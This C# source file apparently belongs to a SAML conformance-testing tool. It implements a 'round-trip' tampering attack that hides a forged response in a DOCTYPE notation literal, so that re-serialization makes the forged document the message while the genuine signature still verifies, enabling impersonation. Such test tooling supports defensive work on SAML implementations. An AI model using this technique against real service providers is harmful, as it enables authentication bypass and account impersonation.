using Conformance.Saml.Forging;
using Conformance.Saml.Potency;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>A message that is another one after it was written and parsed again.</summary>
internal sealed class RoundTrip(TamperingArguments arguments) : Tampering
{
    private string _forged = string.Empty;

    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "round-trip",
            "Hides a forged document in a literal of the document type declaration: whoever writes the literal in other quotes than it had "
            + "makes the forged document the message, and the genuine one a comment.",
            "The IdP's signature verifies over the untouched genuine element; written and read once more, the message holds the forged values.",
            [Impersonation.Parameter]),
        arguments => new RoundTrip(arguments));

    public override string Name => "round-trip";

    public override void AfterSigning(Workpiece work)
    {
        var target = Impersonation.Target(arguments, work.Context);
        var genuine = SignedPlaces.Genuine(work);

        // A system literal may hold no fragment, as signatures do.
        _forged = Impersonation.Response(target, work).OuterXml.Replace("'", "&apos;", StringComparison.Ordinal);
        work.Claim(new GenuineStands(genuine.GetAttribute("ID")));
        work.Claim(new RereadForged(Impersonation.Values(work.Context, target)));
    }

    public override string OnText(string text, Workpiece work)
    {
        var root = text.IndexOf($"<{work.Root.Name}", StringComparison.Ordinal);
        return $"{text[..root]}<!DOCTYPE {work.Root.Name} [<!NOTATION n SYSTEM '\">]>{_forged}<!--'>]>{text[root..].TrimEnd()}<!-- -->";
    }
}
